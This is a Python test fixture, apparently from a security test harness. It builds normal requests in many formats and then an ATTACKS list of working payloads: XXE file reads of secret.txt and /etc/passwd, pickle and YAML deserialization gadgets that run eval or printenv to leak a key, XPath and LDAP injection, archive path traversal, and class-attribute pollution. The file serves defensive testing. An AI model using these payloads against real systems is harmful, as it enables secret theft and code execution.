"""Documents in many formats."""

import base64
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.ninth import (
    BUG,
    COMPANIES,
    COMPLAINT,
    ESSAY,
    LATEX,
    NAMES,
    RICH,
    SPREAD,
    STREETS,
    URL,
    api,
    b64,
    bus,
    graphql,
    http,
    multipart,
    queue,
    tarred,
    zipped,
)

SECRET = "docs-secret-4402"


class _Call:
    """What a pickle calls when it is loaded."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.made = function, arguments

    def __reduce__(self) -> tuple[object, ...]:
        return self.made


def _xml(text: str) -> dict[str, object]:
    return http("POST", "/xml", text, headers={"content-type": "application/xml"})


def _bytes(data: bytes, kind: str = "application/octet-stream") -> dict[str, object]:
    return {**http("POST", "/up", headers={"content-type": kind}), "body": b64(data), "isBase64Encoded": True}


def _name(name: str) -> dict[str, object]:
    return api("GET", "/role", query={"name": name})


def _pin(user: str, pin: str) -> dict[str, object]:
    return http("POST", "/pin", {"user": user, "pin": pin})


def _yaml(text: str) -> dict[str, object]:
    return bus("Push", {"repository": "team/app", "yaml": text})


def _session(data: object) -> dict[str, object]:
    text = base64.urlsafe_b64encode(pickle.dumps(data, protocol=2)).decode()
    return http("GET", "/me", headers={"cookie": f"lang=de; session={text}; theme=dark"})


def _raw_session(data: bytes) -> dict[str, object]:
    return http("GET", "/me", headers={"cookie": "session=" + base64.urlsafe_b64encode(data).decode()})


def _task(data: object) -> dict[str, object]:
    event = queue(b64(data if isinstance(data, bytes) else pickle.dumps(data)))
    event["Records"][0]["messageAttributes"] = {"encoding": {"stringValue": "pickle", "dataType": "String"}}  # type: ignore[index]
    return event


def _bind(user: str, pin: str) -> dict[str, object]:
    return http("POST", "/bind", {"user": user, "pin": pin})


def _keep(key: int, kind: str, data: str) -> tuple[str, dict[str, object]]:
    return ("keep", http("PUT", "/keep", {"id": key, "kind": kind, "data": data}))


def _account(**body: object) -> dict[str, object]:
    return http("PUT", "/account", body)


CONFIG = "name: shop\nowners: ['dana', \"o'neil\"]\nenv:\n  URL: 'https://example.org/?a=b&c=d'\n  TEXT: |\n    select * from x; -- {{ y }}\nratio: 50%\ndate: 2025-11-03\n"
XXE = '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY x SYSTEM "%s">]><invoice><number>&x;</number></invoice>'
REQUESTS = {
    "invoice": [
        _xml(
            f'<invoice><number>2025/0042</number><buyer>{COMPANIES[1].replace("&", "&amp;")}</buyer><line>2 x "Tea"</line><line><![CDATA[<b>5% & more</b>]]></line></invoice>'
        ),
        _xml(
            "<!-- it's ours --><invoice><number>7</number><buyer>Zoë &#x1F375; O&apos;Neil</buyer></invoice>"
        ),
        _xml(
            '<!DOCTYPE invoice [<!ENTITY firm "Tea &#38;amp; Co">]><invoice><number>8</number><buyer>&firm;</buyer></invoice>'
        ),
    ],
    "feed": [
        _xml(
            "<rss><channel><item><title>It's &lt;new&gt; &amp; 50% off</title><link>"
            + URL.replace("&", "&amp;")
            + "</link></item></channel></rss>"
        ),
        _xml(
            "<rss><channel><item><title><![CDATA["
            + BUG
            + "]]></title></item><item><title>佐藤</title></item></channel></rss>"
        ),
    ],
    "user_role": [_name("dana"), _name("O'Neil"), _name("no/body and (x)"), _name("a | b or c")],
    "user_pin": [_pin("dana", "1111"), _pin("root", "0000"), _pin("a.b@example.org", "12 or 34 [x]")],
    "user_safe": [
        graphql("Query", "u", name="O'Neil"),
        graphql("Query", "u", name="' or '1'='1"),
        graphql("Query", "u", name='"'),
    ],
    "config": [
        _yaml(CONFIG),
        _yaml("- 1\n- two: {a: [b, c], d: '!x'}\n- *x\n".replace("- *x\n", "- 'it''s'\n")),
        _yaml("base: &b {x: 1}\nmore:\n  <<: *b\n  y: !!str 5\n  t: 2025-11-03T09:12:44+00:00\n"),
        _yaml("# only a comment\n"),
    ],
    "workflow": [
        _yaml(
            "on: push\njobs:\n  build:\n    steps:\n      - run: |\n          pip install -r x && python -c 'import os; print(os.name)'\n  test: {needs: build}\n"
        ),
        _yaml(CONFIG),
    ],
    "session": [
        _session({"user": NAMES[0], "cart": [1, 2], "flash": COMPLAINT}),
        _session({"user": NAMES[7], "prefs": {"lang": "ja", "text": RICH}}),
        _session(["it's", 5.5, None, True]),
        http("GET", "/me", headers={"cookie": "lang=de"}),
    ],
    "task": [
        queue({"job": "resize", "name": NAMES[0]}, [1, "two"]),
        _task({"job": "mail", "to": ["o'neil@example.org"], "text": BUG}),
        _task(("sum", [1, 2, 3])),
    ],
    "person": [{"uid": "dana"}, {"uid": "o'neil"}, {"uid": "a.b-c_d@example.org"}, {"uid": "Müller & Söhne"}],
    "sign_in": [_bind("dana", "d-1"), _bind("root", "wrong: 1/2"), _bind("o'neil", "d-2")],
    "person_safe": [{"mail": "dana@example.org"}, {"mail": "*"}, {"mail": "o'neil (work)@example.org"}],
    "unzip": [
        _bytes(zipped({"a/plan 1 (final).txt": COMPLAINT, "b.csv": SPREAD}), "application/zip"),
        _bytes(zipped({"Größe/it's.txt": "x", "a/b/../c.txt".replace("b/../", ""): BUG}), "application/zip"),
    ],
    "untar": [
        _bytes(tarred({"index.txt": "a\nb: it's", "data/x (1).txt": BUG})),
        _bytes(tarred({"index.txt": LATEX, "d/target.txt": "t"}, {"d/link": "target.txt"})),
    ],
    "people": [{"name": "Ann"}, {"name": "O'Neil"}, {"name": "Bob | [0] && x"}, {"name": "日本"}],
    "pick": [{"field": "cpu"}, {"field": "'it\\'s'".replace("\\'", "_")}, {"field": "memory"}],
    "settings": [
        http("POST", "/s", {"name": NAMES[0], "street": STREETS[0], "url": URL}),
        http("POST", "/s", {"note": "50% [x]; #5 = y", "lang": "de-AT"}),
        http("POST", "/s", {"title": "[admin] = yes"}),
    ],
    "soap": [
        bus("Order", {"customer": NAMES[0]}),
        bus("Order", {"customer": COMPANIES[0]}),
        bus("Order", {"customer": "5 > 3; \"x\" 'y' ]] €"}),
    ],
    "table_csv": [
        _bytes(
            b"name,note\n" + f'"{NAMES[1]}","it\'s 5%; ok"\n'.encode() + '"a ""b"" c",ünï\n'.encode(),
            "text/csv",
        ),
        _bytes("\ufeffa;b,c\n1,-2\n'x',/* y */\n".encode(), "text/csv"),
        _bytes(f'long\n"{COMPLAINT.replace(chr(34), chr(34) * 2)}"\n'.encode(), "text/csv"),
    ],
    "packed": [
        {
            "Records": [
                {
                    "eventSource": "aws:kinesis",
                    "kinesis": {
                        "partitionKey": "d",
                        "data": b64(b"\x82\xa1t\xcb@6\x80\x00\x00\x00\x00\x00\xa1n\xa4it's"),
                    },
                }
            ]
        }
    ],
    "form_files": [
        multipart(
            "/f",
            {"title": "It's <new> & 50%", "text": COMPLAINT},
            {"file": ("Plan (final) – 2.pdf", b"%PDF-1.7\n\x00\x01")},
        ),
        multipart("/f", {"a": BUG}, {"one": ("../x;y.txt", "x"), "two": ("C:\\Users\\Ann\\it's.doc", "y")}),
    ],
    "article": [
        {"html": '<div data-id="a-1">It\'s <b>new</b></div><a href="' + URL + '">x</a>', "id": "a-1"},
        {"html": RICH, "id": "none (x)"},
        {"html": "<p data-id='5 > 3'>ok</p>" + ESSAY, "id": "5 > 3"},
    ],
    "account": [
        _account(name=NAMES[0], address={"city": "Saint-Jean-d'Angély", "zip": "17400"}),
        _account(name="x", address={"city": STREETS[3]}, extra={"a": [1]}),
        _account(name="__init__.py is a file", newsletter=True),
    ],
    "keep": [
        _keep(1, "yaml", CONFIG)[1],
        _keep(2, "bin", b64(pickle.dumps({"name": NAMES[3], "seen": (1, 2)})))[1],
        _keep(3, "yaml", "theme: dark\nname: 'O''Neil'\nnote: \"5% & more: {x}\"\n")[1],
    ],
    "restore": [{"id": 1}, {"id": 2}, {"id": "3"}, {"id": 99}],
}
ATTACKS = [
    Attack(
        "YAML, second order",
        "restore",
        {"id": 50},
        SECRET,
        before=[_keep(50, "yaml", "a: !!python/object/apply:os.getenv ['DOCS_KEY']")],
    ),
    Attack(
        "pickle, second order",
        "restore",
        {"id": 51},
        SECRET,
        before=[
            _keep(51, "bin", b64(pickle.dumps({"x": _Call(eval, "open('/var/task/secret.txt').read()")})))
        ],
    ),
    Attack("XXE", "invoice", _xml(XXE % "file:///var/task/secret.txt"), SECRET),
    Attack("XXE", "invoice", _xml(XXE % "/var/task/secret.txt"), SECRET),
    Attack("XXE", "invoice", _xml(XXE.replace('<?xml version="1.0"?>', "") % "secret.txt"), SECRET),
    Attack(
        "XXE",
        "invoice",
        _xml(
            "<!DOCTYPE i [<!ENTITY % d '<!ENTITY x SYSTEM \"file:///etc/passwd\">'> %d;]><invoice><buyer>&x;</buyer></invoice>"
        ),
        "/bin",
    ),
    Attack(
        "XXE",
        "invoice",
        _bytes(
            (XXE % "file:///var/task/secret.txt").replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16"),
            "application/xml",
        ),
        SECRET,
    ),
    Attack(
        "XXE, request",
        "invoice",
        _xml(
            "<!DOCTYPE i [<!ENTITY x SYSTEM 'file:///var/task/app.py'>]><invoice><line>no</line></invoice>".replace(
                "app.py", "secret.txt"
            ).replace("no", "&x;")
        ),
        SECRET,
    ),
    Attack("XPath", "user_role", _name('" or @role="admin'), "admin"),
    Attack("XPath", "user_role", _name('x"] | //user[@id="3"]/pin/text() | //x["'), "xpath-secret-3377"),
    Attack("XPath", "user_role", _name('dana"]/../user[3]/pin/text() | //none["'), "xpath-secret-3377"),
    Attack("XPath", "user_pin", _pin("root' or '1'='2", "x"), "admin"),
    Attack("XPath", "user_pin", _pin("x", "' or starts-with(pin,'xpath-') or pin='"), "admin"),
    Attack("XPath", "user_pin", _pin("root' and string-length(pin) > 5 and '1'='1' or '", "x"), "admin"),
    Attack("YAML", "config", _yaml("x: !!python/object/apply:os.getenv [DOCS_KEY]\n"), SECRET),
    Attack(
        "YAML",
        "config",
        _yaml("- !!python/object/apply:subprocess.check_output\n  args: [[printenv, DOCS_KEY]]\n"),
        SECRET,
    ),
    Attack(
        "YAML",
        "config",
        _yaml(
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:builtins.eval [\"open('secret.txt').read()\"]\n"
        ),
        SECRET,
    ),
    Attack("YAML", "config", _yaml("{k: &f !!python/name:os.environ , v: x}"), SECRET),
    Attack("pickle", "session", _session(_Call(eval, "__import__('os').environ['DOCS_KEY']")), SECRET),
    Attack("pickle", "session", _raw_session(b"cos\ngetenv\n(S'DOCS_KEY'\ntR."), SECRET),
    Attack("pickle", "session", _raw_session(b"(S'printenv DOCS_KEY'\nisubprocess\ngetoutput\n."), SECRET),
    Attack("pickle", "task", _task({"job": "x", "arg": [_Call(open, "/proc/self/status")]}), "TextIOWrapper"),
    Attack(
        "pickle",
        "task",
        _task(
            b"\x80\x04\x8c\x0asubprocess\x94\x8c\x09getoutput\x94\x93\x94\x8c\x11printenv DOCS_KEY\x94\x85\x94R\x94."
        ),
        SECRET,
    ),
    Attack("LDAP", "person", {"uid": "*"}, "root@"),
    Attack("LDAP", "person", {"uid": "ro*t"}, "root@"),
    Attack("LDAP", "person", {"uid": "*)(description=ldap-secret*"}, "root@"),
    Attack("LDAP", "sign_in", _bind("root", "*"), "root"),
    Attack("LDAP", "sign_in", _bind("root)(|(uid=*", "x)"), "root"),
    Attack("archive", "unzip", _bytes(zipped({"../pwned.txt": "x"})), "/tmp/pwned.txt"),
    Attack(
        "archive", "unzip", _bytes(zipped({"ok.txt": "a", "/tmp/abs-pwned.py": "x"})), '\\"/tmp/abs-pwned.py'
    ),
    Attack("archive", "unzip", _bytes(zipped({"a/b/../../../.bashrc": "x"})), '\\"/tmp/.bashrc'),
    Attack("archive", "untar", _bytes(tarred({"../motd": "hello-from-tar"})), "hello-from-tar"),
    Attack("archive", "untar", _bytes(tarred({}, {"index.txt": "/var/task/secret.txt"})), SECRET),
    Attack("archive", "untar", _bytes(tarred({"up/motd": "through-a-link"}, {"up": ".."})), "through-a-link"),
    Attack("query, JSONPath", "pick", {"field": "cpu | $.private.key"}, "jsonpath-secret-1155"),
    Attack("query, JSONPath", "pick", {"field": "x | $..key"}, "jsonpath-secret-1155"),
    Attack(
        "lines, INI",
        "settings",
        http("POST", "/s", {"name": "x\n[extra]\nrole = owner"}),
        '\\"role\\": \\"owner\\"',
    ),
    Attack("lines, INI", "settings", http("POST", "/s", {"a]\n[secrets]\nshell": "/bin/sh"}), '\\"shell\\"'),
    Attack(
        "XML",
        "soap",
        bus("Order", {"customer": "x</Customer><Discount>100</Discount><Customer>y"}),
        '"discount": "100"',
    ),
    Attack(
        "XML",
        "soap",
        bus("Order", {"customer": "x</Customer><!-- --><Discount>99</Discount><Customer>"}),
        '"discount": "99"',
    ),
    Attack(
        "selector",
        "article",
        {"html": '<div data-id="a">a</div><p class="hidden">hush-4040</p>', "id": 'x"], .hidden, [x="'},
        "hush-4040",
    ),
    Attack(
        "attributes, pollution", "account", _account(name="x", __class__={"plan": "enterprise"}), "enterprise"
    ),
    Attack(
        "attributes, pollution",
        "account",
        _account(address={"__init__": {"__globals__": {"LIMITS": {"max": 99999}}}}),
        "99999",
    ),
    Attack(
        "attributes, pollution",
        "account",
        _account(__class__={"__init__": {"__globals__": {"LIMITS": {"max": "77777"}}}}),
        "77777",
    ),
]
